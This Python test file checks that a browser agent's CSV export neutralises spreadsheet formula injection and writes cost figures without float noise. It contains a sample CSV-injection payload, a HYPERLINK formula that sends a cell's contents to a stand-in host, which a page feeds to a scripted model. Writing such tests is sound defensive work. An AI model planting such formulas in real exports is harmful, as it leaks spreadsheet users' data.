"""A map's CSV is opened in spreadsheets: a cell a page made into a formula (``=HYPERLINK(...)``) is written as
text, with a single quote in front (the OWASP rule), unless asked for raw; the DataFrame keeps the true values.
A real map on real Chromium: the page says the formula, the (scripted) model copies it into its answer.

A number cell says the number without a float's noise: a row's ``cost`` summed over its model calls
(``0.1 + 0.1 + 0.1``) is written ``0.3``, not ``0.30000000000000004``; checked on a real map and, for every float
and every sum of money amounts, by property."""

from __future__ import annotations

import csv
import math
import re
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from notebook_agent.agent import PageAgent
from notebook_agent.agent.batch.map_cells import FORMULA_STARTS, NUMBER_DIGITS, neutralise, number, write_csv
from notebook_agent.agent.prompt.agent_output import agent_output
from notebook_agent.browser import BrowserSession
from notebook_agent.cli.map import write_table
from notebook_agent.core.messages import Cost, Usage
from notebook_agent.core.model import Context
from notebook_agent.llm.scripted import Response, ScriptedModel
from tests.agent.test_page_agent import state
from tests.browser.conftest import Servers

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")'


def copy_the_page(row: dict[str, object]) -> ScriptedModel:
    """Answers with what the page says, as a model reading it would."""

    def answer(ctx: Context) -> Response:
        said = re.search(r"You said (.*)", state(ctx))
        assert said is not None, state(ctx)
        return agent_output("done", {"text": said.group(1).strip(), "success": True})

    return ScriptedModel([answer])


def read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


async def test_a_formula_from_a_page_is_text_in_the_csv(
    shared_browser: BrowserSession, servers: Servers, tmp_path: Path
) -> None:
    agent = PageAgent(browser=shared_browser, model=ScriptedModel(), screenshots=False)
    rows = [{"said": FORMULA, "note": "@SUM(1)"}, {"said": "-2+3", "note": "plain"}]  # the start URL encodes them
    result = await agent.map(
        "Read what the page says about {note}",
        rows,
        concurrency=1,
        start_url=servers.url("echo.html") + "?t={said}",
        model_factory=copy_the_page,
    )
    assert [r.status for r in result.rows] == ["completed", "completed"], [r.error for r in result.rows]
    frame = result.to_pandas()
    assert list(frame["answer"]) == [FORMULA, "-2+3"]  # the DataFrame keeps the true values
    assert list(frame["note"]) == ["@SUM(1)", "plain"]

    out = tmp_path / "out.csv"
    result.to_csv(out)
    table = read(out)
    assert [r["answer"] for r in table] == ["'" + FORMULA, "'-2+3"]
    assert [r["note"] for r in table] == ["'@SUM(1)", "plain"]

    cli = tmp_path / "cli.csv"
    write_table(result, str(cli))  # what `notebook-agent map --out x.csv` writes
    assert [r["answer"] for r in read(cli)] == ["'" + FORMULA, "'-2+3"]

    raw = tmp_path / "raw.csv"
    result.to_csv(raw, raw_cells=True)
    assert [r["answer"] for r in read(raw)] == [FORMULA, "-2+3"]
    write_table(result, str(cli), raw_cells=True)
    assert [r["answer"] for r in read(cli)] == [FORMULA, "-2+3"]


def test_the_terminal_command_has_the_raw_option() -> None:
    shown = subprocess.run(
        [sys.executable, "-m", "notebook_agent", "map", "--help"], capture_output=True, text=True, timeout=60
    )
    assert "--raw-cells" in shown.stdout, shown.stdout


cells = st.one_of(
    st.text(),
    st.text().map(lambda t: "=" + t),
    st.tuples(st.sampled_from(FORMULA_STARTS), st.text()).map("".join),
    st.integers(),
    st.floats(allow_nan=False),
    st.none(),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(cells, min_size=2, max_size=2), min_size=1, max_size=5))
def test_no_cell_a_spreadsheet_reads_as_a_formula(tmp_path_factory: object, table: list[list[object]]) -> None:
    path = Path(tmp_path_factory.mktemp("cells")) / "t.csv"  # type: ignore[attr-defined]
    write_csv(str(path), ["a", "b"], [{"a": a, "b": b} for a, b in table])
    with path.open(newline="", encoding="utf-8") as f:
        back = list(csv.reader(f))[1:]
    assert len(back) == len(table)
    for written, (a, b) in zip(back, table, strict=True):
        for text, value in zip(written, (a, b), strict=True):
            if isinstance(value, str):  # a number is a number in a spreadsheet, negative or not
                assert not text.startswith(FORMULA_STARTS), text
            expected = "" if value is None else number(value) if isinstance(value, float) else str(neutralise(value))
            assert text == expected
            if isinstance(value, str) and value.startswith(FORMULA_STARTS):
                assert text == "'" + value


# -- numbers -----------------------------------------------------------------------------------------------------
async def test_a_rows_cost_is_written_without_float_noise(
    shared_browser: BrowserSession, servers: Servers, tmp_path: Path
) -> None:
    """Three model calls at $0.10 each: the row's cost is 0.1 + 0.1 + 0.1, which is 0.30000000000000004 as a
    float; its CSV cell (to_csv and the terminal's --out) says 0.3, and the DataFrame keeps the float."""
    dime = Usage(input=10, output=5, cost=Cost(input=0.06, output=0.04, total=0.1))

    def three_calls(row: dict[str, object]) -> ScriptedModel:
        steps = [agent_output("wait", {"seconds": 0}), agent_output("wait", {"seconds": 0})]
        return ScriptedModel([*steps, agent_output("done", {"text": "done", "success": True})], usage=dime)

    agent = PageAgent(browser=shared_browser, model=ScriptedModel(), screenshots=False)
    result = await agent.map(
        "Look at {n}", [{"n": 1}], start_url=servers.url("echo.html") + "?t=x", model_factory=three_calls
    )
    assert result.records()[0]["cost"] == 0.1 + 0.1 + 0.1 != 0.3  # the float, noise and all
    out = tmp_path / "out.csv"
    result.to_csv(out)
    assert read(out)[0]["cost"] == "0.3"
    write_table(result, str(out))
    assert read(out)[0]["cost"] == "0.3"
    result.to_csv(out, raw_cells=True)  # as it is
    assert read(out)[0]["cost"] == repr(0.1 + 0.1 + 0.1)


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_a_number_cell_reads_back_as_the_number(value: float) -> None:
    """Any float: a plain decimal (an exponent only far from 1) with a point, at most 12 significant digits, that
    reads back within those digits; a whole number below 2**53 reads back exactly (``79.0``)."""
    text = number(value)
    back = float(text)
    if value.is_integer() and abs(value) < 2**53:
        assert back == value and text == f"{int(value)}.0"
        return
    assert "." in text or "e" in text, text  # a float reads back as one
    assert math.isclose(back, value, rel_tol=10.0 ** -(NUMBER_DIGITS - 1)), (value, text)
    digits = Decimal(text).normalize().as_tuple().digits
    assert len(digits) <= NUMBER_DIGITS, text
    if 1e-12 <= abs(value) < 1e15:
        assert "e" not in text.lower(), text


amounts = st.decimals(min_value=0, max_value=1000, places=6, allow_nan=False, allow_infinity=False)


@given(st.lists(amounts, min_size=1, max_size=200))
def test_a_sum_of_money_amounts_is_written_as_the_sum(parts: list[Decimal]) -> None:
    """Costs summed as floats (up to 200 calls of up to $1,000, to the millionth of a dollar): the cell says the
    exact decimal sum, whatever noise the float sum picked up."""
    total = 0.0
    for part in parts:
        total += float(part)
    exact = sum(parts, Decimal(0))
    assert Decimal(number(total)) == exact, (number(total), exact, repr(total))
